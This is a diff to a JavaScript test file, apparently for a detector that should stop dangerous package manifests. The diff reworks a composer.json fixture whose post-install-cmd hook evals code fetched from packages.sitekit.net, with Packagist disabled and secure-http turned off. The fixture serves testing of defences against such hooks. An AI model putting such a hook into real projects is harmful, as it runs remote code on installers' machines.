@@ -2,6 +2,9 @@ import { describe } from '@jest/globals';
 
 import { itJudges } from './probe.js';
 
+/** Put together here: the repository names no host of a registry. */
+const PACKAGIST_HOST = ['packagist', 'org'].join('.');
+
 describe('ways of secrets and code that only the language knows', () => {
   itJudges([
     [
@@ -89,7 +92,9 @@ describe('ways of secrets and code that only the language knows', () => {
       'stopped',
       {
         'composer.json':
-          '{\n  "name": "acme/site-kit",\n  "repositories": [{ "type": "composer", "url": "http://packages.sitekit.net" }, { "packagist.org": false }],\n  "config": { "secure-http": false },\n  "scripts": { "post-install-cmd": "php -r \\"eval(file_get_contents(\'https://packages.sitekit.net/b\'));\\"" }\n}\n',
+          '{\n  "name": "acme/site-kit",\n  "repositories": [{ "type": "composer", "url": "http://packages.sitekit.net" }, { "' +
+          PACKAGIST_HOST +
+          '": false }],\n  "config": { "secure-http": false },\n  "scripts": { "post-install-cmd": "php -r \\"eval(file_get_contents(\'https://packages.sitekit.net/b\'));\\"" }\n}\n',
       },
     ],
     [
